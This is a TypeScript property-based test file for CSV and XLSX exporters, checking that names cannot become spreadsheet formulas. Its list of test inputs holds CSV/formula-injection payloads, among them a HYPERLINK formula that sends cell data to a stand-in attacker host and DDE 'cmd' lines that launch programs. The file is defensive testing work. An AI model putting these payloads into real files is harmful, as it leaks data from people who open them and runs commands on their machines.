import { once } from "node:events";
import { Readable } from "node:stream";
import { buffer, text } from "node:stream/consumers";
import { parse } from "csv-parse/sync";
import { assert, asyncProperty, constantFrom, integer, oneof, record, string, array } from "fast-check";
import { expect, test } from "vitest";
import { read, utils } from "@e965/xlsx";
import { csvOf } from "./csv.ts";
import type { Cell, Table } from "./list.ts";
import { xlsxOf } from "./xlsx.ts";

async function* batches(rows: Cell[][]): AsyncGenerator<Cell[][]> {
  for (let at = 0; at < rows.length; at += 3) yield rows.slice(at, at + 3);
}

const tableOf = (rows: Cell[][]): Table => ({
  title: "Люди",
  columns: [
    { title: "Аты", kind: "text", width: 20 },
    { title: "Жасы", kind: "number", width: 8 },
    { title: "Күні", kind: "day", width: 12 },
  ],
  rows: batches(rows),
});

const csv = (rows: Cell[][]) => text(Readable.from(csvOf(tableOf(rows))));
const xlsx = async (rows: Cell[][]) =>
  read(await buffer(Readable.from(xlsxOf(tableOf(rows)))), {
    cellStyles: true,
    dateNF: "yyyy-mm-dd",
    cellNF: true,
    cellFormula: true,
  });
const sheetOf = (book: Awaited<ReturnType<typeof xlsx>>) => book.Sheets[book.SheetNames[0] ?? ""] ?? {};

// What people have really put into names to reach whoever opens a list in a spreadsheet, and what only looks like it.
const nasty = [
  `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
  `=cmd|'/C calc'!A0`,
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\u200b=1+1",
  "＝1+1",
  "＋1",
  `";=1+1;"`,
  `"\r\n=1+1;"`,
  "a;=1+1",
  "'=1+1",
  "_x003D_1+1",
  "_x000D_=1+1",
  "&#61;1+1",
  "]]>=1+1",
  "</t></is></c><c><f>1+1</f></c>",
  "\u0000=1+1",
  "\ud800=1+1",
  "sep=,",
];
const names = oneof(
  constantFrom(...nasty),
  string({ unit: "binary", maxLength: 30 }),
  string({ unit: constantFrom(...`=+-@\t\r\n;"',<>&_x003D|! Әé`), maxLength: 20 }),
);
const days = record({ year: integer({ min: 1950, max: 2030 }), month: integer({ min: 1, max: 12 }) }).map(
  ({ year, month }) => `${year}-${String(month).padStart(2, "0")}-15`,
);
const people = array(record({ name: names, age: integer({ min: 0, max: 120 }), day: days }), {
  maxLength: 8,
}).map((rows) => rows.map(({ name, age, day }): Cell[] => [name, age, day]));

/** A text as XML can carry it, and as that other program gives it back: a line ends with a single sign. */
const carried = (name: string) =>
  name
    .toWellFormed()
    .replaceAll("\r\n", "\n")
    // oxlint-disable-next-line no-control-regex -- these are what XML 1.0 has no way to write
    .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]/g, "\uFFFD");

test("whatever a name is, another program finds texts, numbers and days in the sheet, and no formula (S8)", async () => {
  await assert(
    asyncProperty(people, async (rows) => {
      const sheet = sheetOf(await xlsx(rows));
      const cells = Object.entries(sheet).filter(([at]) => !at.startsWith("!"));
      expect(cells.filter(([, cell]) => "f" in cell || "F" in cell || "l" in cell)).toEqual([]);
      expect(sheet["!ref"]).toBe(`A1:C${rows.length + 1}`);
      for (const [index, [name, age, day]] of rows.entries()) {
        const [a, b, c] = ["A", "B", "C"].map((column) => sheet[`${column}${index + 2}`]);
        expect([a?.t, a?.v]).toEqual(name === "" ? [undefined, undefined] : ["s", carried(String(name))]);
        expect([b.t, b.v]).toEqual(["n", age]);
        expect([c.t, utils.format_cell({ ...c, z: "yyyy-mm-dd", w: undefined })]).toEqual(["n", day]);
      }
    }),
    { numRuns: 300 },
  );
}, 20_000);

test("whatever a name is, another program finds no formula in the CSV, and every name as it is or as a text (S8)", async () => {
  await assert(
    asyncProperty(people, async (rows) => {
      const file = await csv(rows);
      const found = parse(file, { bom: true, delimiter: ";", record_delimiter: "\r\n" }) as string[][];
      expect(found).toHaveLength(rows.length + 1);
      for (const [index, [name, age, day]] of rows.entries()) {
        const [first = "", ...rest] = found[index + 1] ?? [];
        const told = String(name).toWellFormed();
        expect([told, `'${told}`]).toContain(first);
        expect(first).not.toMatch(/^[\s\p{C}\p{Z}]*[=+\-@]/u);
        expect(rest).toEqual([String(age), day]);
      }
      const sheet = sheetOf(read(file, { type: "string", FS: ";" }));
      expect(
        Object.values(sheet).filter((cell) => cell !== null && typeof cell === "object" && "f" in cell),
      ).toEqual([]);
    }),
    { numRuns: 300 },
  );
}, 20_000);

test("a list has its titles in view, its days as days, and goes on where a batch ends", async () => {
  const rows = Array.from({ length: 10 }, (_, index): Cell[] => [`Ә${index}`, index, "2026-11-22"]);
  const book = await xlsx(rows);
  expect(utils.sheet_to_json(sheetOf(book), { header: 1, raw: false, dateNF: "yyyy-mm-dd" })).toEqual([
    ["Аты", "Жасы", "Күні"],
    ...rows.map(([name, age, day]) => [name, String(age), day]),
  ]);
  expect(book.SheetNames).toEqual(["Люди"]);
  expect(await csv(rows.slice(0, 1))).toBe('\uFEFF"Аты";"Жасы";"Күні"\r\n"Ә0";0;"2026-11-22"\r\n');
});

test("a file of nobody has its titles", async () => {
  expect(await csv([])).toBe('\uFEFF"Аты";"Жасы";"Күні"\r\n');
  expect(sheetOf(await xlsx([]))["!ref"]).toBe("A1:C1");
});

test("a list that breaks off makes a file that does not end", async () => {
  const broken = async function* (): AsyncGenerator<Cell[][]> {
    yield [["Асанова", 19, "2026-11-22"]];
    throw new Error("the database went away");
  };
  for (const write of [csvOf, xlsxOf])
    await expect(buffer(Readable.from(write({ ...tableOf([]), rows: broken() })))).rejects.toThrow(
      "went away",
    );
});

test("whoever stops reading lets go of the list", async () => {
  for (const write of [csvOf, xlsxOf]) {
    let closed = 0;
    const endless = async function* (): AsyncGenerator<Cell[][]> {
      try {
        for (;;)
          yield Array.from({ length: 500 }, (_, index): Cell[] => [`Асанова ${Math.random()}`, index, null]);
      } finally {
        closed += 1;
      }
    };
    const file = Readable.from(write({ ...tableOf([]), rows: endless() }));
    let arrived = 0;
    file.on("data", (part: string | Buffer) => {
      arrived += part.length;
      if (arrived > 50_000) file.destroy();
    });
    await once(file, "close");
    expect(closed).toBe(1);
  }
});
